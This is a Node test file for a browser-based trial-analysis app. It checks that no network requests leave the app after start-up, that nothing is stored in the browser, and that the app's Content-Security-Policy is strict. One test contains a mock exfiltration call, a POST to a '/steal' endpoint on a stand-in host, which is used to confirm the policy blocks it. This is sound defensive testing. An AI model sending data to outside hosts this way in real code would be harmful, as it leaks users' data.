// Privacy: from page load through upload, analysis and export, every request is a
// same-origin GET of the app's own files, none happens after the app is interactive, and
// the console shows no errors.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { readdir } from 'node:fs/promises';
import { start, waitReady, download, REFERENCE } from './helpers.mjs';

test('no request leaves the app after start-up', async () => {
  const t = await start();
  try {
    await t.page.goto(t.server.url + '/#/change');
    await waitReady(t.page);
    const interactiveAt = Date.now();
    const atStart = t.requests.length;
    await t.page.setInputFiles('[data-testid="data-file"]', join(REFERENCE, 'analysis', 'p05_trial_n80_missing_fu.csv'));
    await waitReady(t.page);
    await t.page.setInputFiles('[data-testid="recipe-file"]', join(REFERENCE, 'analysis', 'p05_trial_n80_missing_fu.json'));
    await waitReady(t.page);
    await download(t.page, 'export-results');
    await download(t.page, 'export-clean-csv');
    // Every reference analysis file, then planning and cost, in the same visit.
    const dir = join(REFERENCE, 'analysis');
    for (const f of (await readdir(dir)).filter((f) => f.endsWith('.csv') && !f.endsWith('_costs.csv')).sort()) {
      await t.page.setInputFiles('[data-testid="data-file"]', join(dir, f));
      await waitReady(t.page);
      await t.page.setInputFiles('[data-testid="recipe-file"]', join(dir, f.replace(/\.csv$/, '.json')));
      await waitReady(t.page, 120000);
      await download(t.page, 'export-results');
    }
    await t.page.setInputFiles('[data-testid="cost-file"]', join(dir, 'p08_cost_n400_costs.csv'));
    await waitReady(t.page, 120000);
    await t.page.click('a[href="#/plan"]');
    await t.page.fill('#plan-d', '0.4');
    await t.page.dispatchEvent('#plan-d', 'change');
    await download(t.page, 'export-results');
    for (const tab of ['cost', 'report', 'teach', 'about', 'change']) {
      await t.page.click(`a[href="#/${tab}"]`);
    }
    await t.page.waitForTimeout(300);
    const origin = new URL(t.server.url).origin;
    assert.ok(atStart >= 3, `the app's own files were requested (${atStart})`);
    for (const r of t.requests) {
      const u = new URL(r.url);
      const own = u.origin === origin || u.protocol === 'data:' || u.protocol === 'blob:';
      assert.ok(own, `request to another origin: ${r.url}`);
      assert.equal(r.method, 'GET', `${r.method} ${r.url}`);
    }
    const late = t.requests.filter((r) => r.at > interactiveAt && !r.url.startsWith('blob:') && !r.url.startsWith('data:'));
    assert.deepEqual(late.map((r) => r.url), [], 'no network request after the app is interactive');
    assert.deepEqual(t.consoleErrors, []);
    const stored = await t.page.evaluate(async () => ({
      local: localStorage.length, session: sessionStorage.length, cookies: document.cookie,
      idb: indexedDB.databases ? (await indexedDB.databases()).length : 0,
    }));
    assert.deepEqual(stored, { local: 0, session: 0, cookies: '', idb: 0 }, 'nothing stored');
  } finally {
    await t.close();
  }
});

test('the Content-Security-Policy blocks a connection attempt', async () => {
  const t = await start();
  try {
    await t.page.goto(t.server.url + '/');
    await waitReady(t.page);
    const outcome = await t.page.evaluate(async () => {
      try { await fetch('http://127.0.0.2:9/steal', { method: 'POST', body: 'x' }); return 'sent'; } catch { return 'blocked'; }
    });
    assert.equal(outcome, 'blocked');
    const csp = await t.page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
    for (const d of ["default-src 'self'", "connect-src 'self'", "object-src 'none'", "base-uri 'none'", "form-action 'none'"]) {
      assert.ok(csp.includes(d), `CSP has ${d}`);
    }
    assert.ok(!/unsafe-inline|unsafe-eval'/.test(csp.replace("'wasm-unsafe-eval'", '')), 'no unsafe-inline / unsafe-eval');
  } finally {
    await t.close();
  }
});
